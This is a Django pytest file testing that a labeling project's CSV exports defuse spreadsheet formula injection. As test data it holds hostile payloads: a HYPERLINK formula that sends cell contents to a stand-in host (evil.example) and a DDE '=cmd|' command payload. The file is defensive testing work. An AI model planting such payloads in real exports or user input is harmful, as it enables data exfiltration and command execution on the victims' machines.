"""CSV formula injection: labelers named like formulas, formula comments and prompts, in every CSV the
project writes (the stats page's labelers.csv, the rankings CSV export and its API endpoint). No cell may
start with a character a spreadsheet treats as a formula; the value survives behind a leading quote."""
import csv
import io

import pytest
from django.test import Client

from labeling.csv_cells import CSV_FORMULA_PREFIXES
from labeling.services.assignment import task_assign_next
from labeling.services.exports import export_stream
from tests.labeling.export_data import export_filters
from labeling.services.ranking import ranking_submit
from tests.factories import UserFactory, make_task

NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
COMMENT = "=cmd|' /C calc'!A0"


@pytest.fixture
def formulas(db, admin):
    make_task(k=2, prompt_text="=1+1", texts=["@SUM(1)", "-1"], required_rankings=len(NAMES))
    for i, name in enumerate(NAMES):
        user = UserFactory(username=name)
        lease = task_assign_next(labeler=user)
        ranking_submit(labeler=user, assignment_id=lease.pk, tiers=[[c] for c in lease.display_order],
                       submission_id=f"s{i}", comment=COMMENT)
    client = Client()
    client.force_login(admin)
    return client


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_neutral(rows: list[list[str]], *, must_contain: list[str]) -> None:
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell.startswith(CSV_FORMULA_PREFIXES)]
    assert not live, live
    for value in must_contain:
        assert "'" + value in cells, f"{value!r} missing or changed"


def test_stats_labelers_csv(formulas):
    response = formulas.get("/stats/labelers.csv")
    assert response.status_code == 200
    rows = _rows(response.content.decode())
    assert len(rows) == 1 + len(NAMES)
    _assert_neutral(rows, must_contain=NAMES)


def test_rankings_csv_export(formulas):
    rows = _rows("".join(export_stream(fmt="csv", filters=export_filters())))
    assert len(rows) == 1 + len(NAMES)
    _assert_neutral(rows, must_contain=NAMES + ["=1+1", "@SUM(1)", "-1"])  # labelers, prompt, completions


def test_rankings_csv_over_the_api(formulas):
    response = formulas.get("/api/v1/exports/csv/")
    assert response.status_code == 200
    _assert_neutral(_rows(b"".join(response.streaming_content).decode()), must_contain=NAMES + ["=1+1"])
